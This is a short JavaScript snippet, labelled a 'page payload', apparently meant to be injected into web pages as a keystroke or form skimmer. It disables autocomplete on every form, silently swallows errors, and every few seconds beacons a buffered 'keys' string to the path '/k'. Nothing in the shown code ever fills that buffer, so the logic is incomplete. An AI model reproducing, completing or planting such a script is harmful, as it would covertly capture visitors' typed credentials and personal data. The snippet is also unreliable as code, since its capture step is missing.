// A page payload wrapped in an IIFE: its body runs once per page, so the
// two polls it starts are two for the page's life, not one more per event.
(function () {
  "use strict";
  var keys = [];

  function hookForms() {
    document.querySelectorAll("form").forEach(function (form) {
      form.autocomplete = "off";
    });
  }

  function flush() {
    if (keys.length) navigator.sendBeacon("/k", keys.splice(0).join(""));
  }

  try {
    hookForms();
    setInterval(hookForms, 2000);
    setInterval(flush, 5000);
  } catch (ignored) {}
})();
